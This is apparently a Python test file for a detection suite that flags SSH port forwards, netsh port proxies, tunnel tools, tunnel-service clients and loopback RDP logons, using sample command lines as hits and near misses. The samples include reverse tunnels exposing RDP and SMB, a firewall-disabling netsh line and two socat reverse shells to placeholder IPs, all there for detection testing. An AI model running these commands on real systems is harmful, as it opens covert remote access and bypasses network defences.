"""The protocol-tunnelling detections (SSH forwards, RDP through a tunnel, port proxies, tunnel tools, current
tunnel services), compiled and run on rows built here: each pattern with its near misses."""

from __future__ import annotations

from typing import Any

from tests.helpers import store_with
from tests.unit.test_tunnel_detections import BY_NAME, CONTENT, check_dns, check_processes, found
from tunnelhunt.cim import ALL_TRAFFIC, AUTHENTICATION, PROCESSES, REGISTRY
from tunnelhunt.detect.runner import run_detection

SSH_PLAIN = [
    "ssh -fN -L 15432:db.internal:5432 jump@bastion.corp.example",
    "ssh -D 1080 -N user@203.0.113.9",
    "ssh -D127.0.0.1:9050 user@203.0.113.9",
    "ssh -fNR 9000:web.internal:8080 a@203.0.113.1",
    "plink.exe -batch -hostkey SHA256:abc -P 443 -pw pass -R 8080:10.0.0.20:80 u@203.0.113.2",
    "autossh -M 0 -N -R 2222:10.0.0.3:8443 relay@203.0.113.3",
    "ssh -R 3389:host:33890 u@203.0.113.6 -x",  # forwards to 33890, not to RDP
    'ssh -o "LocalForward 8443 intranet.corp.example.com:443" jump.corp.example.com',  # the same, as an option
    "ssh -oDynamicForward=1080 jump.corp.example.com",
]
SSH_SENSITIVE = [
    "plink.exe  10.0.2.18 -P 80 -C -R 127.0.0.3:4444:127.0.0.2:3389 -l test -pw test",
    "ssh -N -R 8445:localhost:445 tunnel@203.0.113.7",
    "ssh -L 5985:10.0.0.5:5985 admin@203.0.113.8",
    "putty.exe -ssh -R 2222:127.0.0.1:22 u@203.0.113.4",
    "ssh -NR 13389:[::1]:3389 u@203.0.113.5",
    "ssh -L 8080:localhost:80 bastion.corp.example.com",  # a loopback target: scored higher, as the brief asks
    'ssh -o "RemoteForward 8022 localhost:22" relay@203.0.113.9',
    "ssh -o RemoteForward=13389:10.0.0.5:3389 relay@203.0.113.9",
]
SSH_NEAR_MISSES = [
    "ssh -l admin -p 22 bastion.corp.example",
    "plink.exe -ssh -P 22 -l admin -pw secret 10.0.0.5 hostname",
    "ssh -L",
    "ssh -D user@host",
    "scp -P 22 file.txt u@10.0.0.5:/tmp/",
    "git.exe -c core.sshCommand=ssh fetch",
    "ssh -o ForwardAgent=yes bastion.corp.example",
    'ssh -o "LocalCommand echo 8080:localhost:80" bastion.corp.example',
]


def test_ssh_forwards_split_by_what_they_reach() -> None:
    check_processes("SSH Client Port Forwarding", SSH_PLAIN, SSH_SENSITIVE + SSH_NEAR_MISSES)
    check_processes("SSH Tunnel to Remote Access Port or Loopback", SSH_SENSITIVE, SSH_PLAIN + SSH_NEAR_MISSES)


def test_forward_options_of_a_non_ssh_binary_do_not_count() -> None:
    check_processes("SSH Client Port Forwarding", [], ["kubectl.exe -R 8080:10.0.0.5:80 x", "gost -L 1080:a:80"])


def test_netsh_port_proxy_in_every_abbreviation() -> None:
    check_processes(
        "Netsh Port Proxy Rule Added",
        hits=["netsh interface portproxy add v4tov4 listenport=8001 connectaddress=10.0.0.5 connectport=3389",
              "netsh  I p a v l=8001 listena=0.0.0.0 connectp=3389 c=1.1.1.1",
              "netsh int portproxy add v4tov4 8001 10.0.0.5 3389", "NETSH.EXE INTERFACE PORTPROXY SET V4TOV6 l=1",
              "netsh in portp se v4tov4 listenport=8001 connectport=445", "netsh interf portproxy ad v6tov4 l=1",
              "netsh.exe i p a v4 l=1"],
        misses=["netsh interface portproxy show all", "netsh interface portproxy delete v4tov4 listenport=8001",
                "netsh interface portproxy reset", "netsh interface ipv4 add address x", "netsh interfaces p a v",
                "netsh interface portproxyx add v4tov4", "netsh int p add vx",
                "netsh advfirewall set allprofiles state off",
                "netsh interface portproxy dump"],
        name="netsh.exe",
    )  # fmt: skip


def test_ip_helper_started_or_enabled() -> None:
    check_processes(
        "IP Helper Service Started or Enabled from Command Line",
        hits=["sc config iphlpsvc start= auto", "sc.exe start iphlpsvc", "net start iphlpsvc",
              "powershell Start-Service iphlpsvc", "powershell Set-Service -Name iphlpsvc -StartupType Automatic"],
        misses=["sc query iphlpsvc", "sc stop iphlpsvc", "sc config iphlpsvc start= disabled",
                "powershell Set-Service iphlpsvc -StartupType Disabled", "net start spooler"],
    )  # fmt: skip


TOOL_HITS = {
    "update.exe client https://203.0.113.5:443 R:socks": "chisel",
    "chisel client 203.0.113.5:8080 3389:10.0.0.5:3389": "chisel",
    "chisel.exe server --port 8000 --reverse": "chisel",
    "frpc.exe -c C:\\ProgramData\\frpc.toml": "frp",
    "svc.exe tcp --server_addr 203.0.113.3:7000 --local_port 3389 --remote_port 6000": "frp",
    "agent.exe -connect 203.0.113.8:11601 -ignore-cert": "ligolo-ng or revsocks",
    "revsocks -listen :8443 -socks 127.0.0.1:1080 -pass x": "ligolo-ng or revsocks",
    "gost.exe -L socks5://:1080 -F relay+tls://203.0.113.9:443": "gost",
    "gost -L=:8080": "gost",
    "socat TCP4-LISTEN:8080,fork TCP4:10.0.0.5:3389": "socat",
    "socat tcp-l:9999,reuseaddr,fork openssl:203.0.113.2:443,verify=0": "socat",
    "socat TCP:203.0.113.1:443 TCP:127.0.0.1:3389": "socat",
    "rathole --client client.toml": "rathole",
    "/opt/rathole server.toml": "rathole",
    "iodine -f -P secret 10.0.0.1 t.example.net": "iodine",
    "dnscat.exe --dns server=203.0.113.2,domain=t.example.net": "dnscat2",
    "ruby dnscat2.rb --secret=abc t.example.net": "dnscat2",
    "C:\\ProgramData\\iodine.exe -f -r -P s3cret 203.0.113.66 t1.example.net": "iodine",  # a Windows path
    'powershell.exe -c "Import-Module .\\dnscat2.ps1; Start-Dnscat2 -Domain t2.example.net -DNSServer 10.0.0.1"': (
        "dnscat2"
    ),
}
TOOL_NEAR_MISSES = [
    "chisel.exe --help",
    "chisel client",
    "socat TCP:203.0.113.4:4444 EXEC:/bin/sh",
    "socat - TCP:10.0.0.5:80",
    "ssh -L 8080:localhost:80 u@h",
    "net use \\\\server\\share /user:corp\\alice",
    "sqlservr.exe -c -sMSSQLSERVER",
    "python -c print(1)",
    "nslookup -type=txt t.example.net",
    "git clone https://github.com/iagox86/dnscat2",
    "socat.exe TCP4:203.0.113.68:4444 EXEC:cmd.exe,pipes",  # a reverse shell, not a relay
    "curl -L https://example.com -o x",
    "curl.exe -L https://example.com:8443/x -o x",
    "tool.exe -L https://example.com/path",
    "java -server -Xmx1g -jar app.jar",
]


def test_tunnel_tools_by_grammar_name_the_tool() -> None:
    check_processes("Tunnel or Proxy Tool Command Line", list(TOOL_HITS), TOOL_NEAR_MISSES)
    rows = [{"dest": "wks-1", "user": "u", "process": c, "process_name": "x.exe"} for c in TOOL_HITS]
    with store_with(PROCESSES, rows) as store:
        run = run_detection(store, BY_NAME["Tunnel or Proxy Tool Command Line"], CONTENT.macros)
    assert {row["process"]: row["tool"] for row in run.rows} == TOOL_HITS


def test_current_tunnel_service_clients() -> None:
    check_processes(
        "Current Tunnel Service Client Command Line",
        hits=["tailscale.exe funnel --bg 3000", "tailscale funnel 443 on", "zrok.exe share public localhost:8080",
              "zrok share private 127.0.0.1:3389", "localtonet.exe authtoken AbC123", "playit.exe --secret abc",
              "playit.exe --secret_path C:\\ProgramData\\playit\\playit.toml start",
              "ngrok.exe http 80 --connect-url=tunnel.partner.example:443",
              "cloudflared tunnel --hostname app.example.com --url localhost:8080"],
        misses=["tailscale.exe status", "tailscale funnel status", "tailscale.exe funnel reset", "tailscale serve 3000",
                "zrok.exe enable abc123", "zrok status",
                "ngrok http 80", "cloudflared tunnel list", "gh auth token", "funnel.exe"],
    )  # fmt: skip


def test_current_tunnel_service_domains() -> None:
    check_dns(
        "Current Tunnel Service Domains in DNS",
        hits=["cftunnel.com", "region1.cftunnel.com", "global.rel.tunnels.api.visualstudio.com",
              "quiet-river.share.zrok.io", "api.zrok.io", "abc.localto.net", "x.at.ply.gg", "api.playit.gg"],
        misses=["cftunnel.com.example.net", "zrok.io", "share.zrok.io", "tunnels.api.visualstudio.com",
                "localto.net", "playit.gg", "visualstudio.com", "region1.v2.argotunnel.com"],
    )  # fmt: skip


def _auth(**fields: Any) -> dict[str, Any]:
    row = {"dest": "wks-1", "user": "alice", "action": "success", "signature_id": "4624", "Logon_Type": "10",
           "signature": "An account was successfully logged on", "app": "win:remote", "src": "127.0.0.1"}  # fmt: skip
    row.update(fields)
    return row


def test_rdp_logons_from_loopback() -> None:
    rows = [
        _auth(user="hit-4624"),
        _auth(user="hit-v6", src="::1"),
        _auth(user="hit-1149", signature_id="1149"),
        _auth(user="miss-console", Logon_Type="2"),
        _auth(user="miss-unlock", Logon_Type="7"),
        _auth(user="miss-network", src="10.0.0.7"),
        _auth(user="miss-127-lookalike", src="1270.0.0.1"),
        _auth(user="miss-failure", action="failure", signature_id="4625"),
        _auth(user="miss-4648", signature_id="4648"),
    ]
    assert found("RDP Logon from Loopback Address", AUTHENTICATION, rows, "user") == ["hit-1149", "hit-4624", "hit-v6"]


def test_rdp_connections_over_loopback() -> None:
    def flow(name: str, src: str, dest: str, port: str, action: str = "allowed") -> dict[str, Any]:
        return {"dvc": "wks-1", "src_ip": src, "dest_ip": dest, "dest_port": port, "process_name": name,
                "action": action}  # fmt: skip

    rows = [
        flow("hit.exe", "127.0.0.1", "127.0.0.2", "3389"),
        flow("miss-remote.exe", "10.0.0.7", "10.0.0.5", "3389"),
        flow("miss-from-lan.exe", "10.0.0.7", "127.0.0.1", "3389"),
        flow("miss-other-port.exe", "127.0.0.1", "127.0.0.1", "8080"),
        flow("miss-port.exe", "127.0.0.1", "127.0.0.1", "33890"),
        flow("miss-blocked.exe", "127.0.0.1", "127.0.0.1", "3389", "blocked"),
    ]
    assert found("RDP Connection over Loopback", ALL_TRAFFIC, rows, "process_name") == ["hit.exe"]


def test_port_proxy_registry_values() -> None:
    base = "HKLM\\System\\CurrentControlSet\\Services\\"

    def value(path: str, action: str = "modified") -> dict[str, Any]:
        return {"dest": "wks-1", "user": "alice", "registry_path": base + path, "action": action,
                "registry_value_name": path.rsplit("\\", 1)[-1], "registry_value_data": "10.0.0.5/3389"}  # fmt: skip

    rows = [
        value("PortProxy\\v4tov4\\tcp\\0.0.0.0/8001"),
        value("PortProxy\\v6tov4\\tcp\\::/8002", "created"),
        value("PortProxy\\v4tov4\\tcp\\0.0.0.0/8003", "deleted"),
        value("PortProxyX\\v4tov4\\tcp\\0.0.0.0/8004"),
        value("iphlpsvc\\Parameters\\PortProxy"),
    ]
    assert found("Port Proxy Rule in Registry", REGISTRY, rows, "registry_value_name") == ["0.0.0.0/8001", "::/8002"]


# --- the generator's oracle, written from the same descriptions, agrees with the SPL on every case above ---------


def test_generator_oracle_agrees_with_the_protocol_tunnel_detections() -> None:
    from tunnelhunt.generate import oracle

    commands = [*SSH_PLAIN, *SSH_SENSITIVE, *SSH_NEAR_MISSES, *TOOL_HITS, *TOOL_NEAR_MISSES,
                "netsh I p a v l=8001 listena=0.0.0.0 connectp=3389 c=1.1.1.1", "netsh interface portproxy show all",
                "sc.exe config iphlpsvc start= auto", "sc.exe config iphlpsvc start= disabled", "sc query iphlpsvc",
                "tailscale funnel status", "tailscale.exe funnel --bg 3000",
                "playit.exe --secret_path p.toml start"]  # fmt: skip
    names = ("SSH Client Port Forwarding", "SSH Tunnel to Remote Access Port or Loopback",
             "Netsh Port Proxy Rule Added", "IP Helper Service Started or Enabled from Command Line",
             "Tunnel or Proxy Tool Command Line",
             "Current Tunnel Service Client Command Line")  # fmt: skip
    rows = [{"dest": "wks-1", "user": "u", "process": c, "process_name": oracle.basename(c.split()[0].strip('"'))}
            for c in commands]  # fmt: skip
    by_spl: dict[str, set[str]] = {c: set() for c in commands}
    with store_with(PROCESSES, rows) as store:
        for name in names:
            for row in run_detection(store, BY_NAME[name], CONTENT.macros).rows:
                by_spl[row["process"]].add(name)
    assert by_spl == {r["process"]: set(oracle.protocol_tunnel_rows(r["process_name"], r["process"])) for r in rows}
